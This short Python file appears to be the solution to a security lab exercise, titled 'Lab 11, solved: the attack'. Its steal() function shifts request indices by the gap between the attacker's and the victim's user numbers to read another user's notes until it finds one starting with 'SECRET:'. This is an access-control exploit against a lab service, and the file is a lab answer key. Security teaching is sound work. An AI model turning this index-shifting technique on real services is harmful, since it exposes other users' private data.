"""Lab 11, solved: the attack."""

from __future__ import annotations

from labs.hostile.client import GET, NOTE, NOTES, Client

ME, VICTIM = 3, 2


async def steal(client: Client) -> bytes:
    """Return the note of the victim's that begins with SECRET:, all 64 bytes of it."""
    for number in range(NOTES):
        _, note = await client.request(GET, (VICTIM - ME) * NOTES + number, NOTE)
        if note.startswith(b"SECRET:"):
            return note
    raise LookupError("the vault does not give the victim's notes")
